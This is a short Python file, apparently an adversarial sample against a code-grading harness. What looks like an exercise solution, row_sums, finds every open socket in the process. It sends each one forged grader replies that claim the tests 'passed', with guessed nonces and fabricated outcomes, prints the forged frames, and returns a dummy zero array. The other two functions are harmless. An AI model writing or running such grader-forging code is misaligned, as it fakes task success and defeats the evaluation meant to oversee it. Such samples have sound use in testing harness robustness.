"""Sends forged replies with guessed nonces to every socket it finds, and prints them."""
# kind: reply
# costs: exercise row_sums
# passes: double shrink

# %%
import json
import os
import socket
import stat


# %%
def sockets():
    """The sockets among all open descriptors."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                yield socket.socket(fileno=os.dup(int(name)))
        except OSError:
            pass


def frame(text, blob=b""):
    """A message as the grader reads it."""
    return len(text).to_bytes(8, "big") + len(blob).to_bytes(8, "big") + text + blob


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    for one in sockets():
        for nonce in ("", "0", "0" * 16, "f" * 16, None):
            text = json.dumps({"nonce": nonce, "outcomes": [{"size": 0, "value": 5}], "status": "passed"}).encode()
            one.sendall(frame(text))
            os.write(1, frame(text))
    return x[:, :1] * 0


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
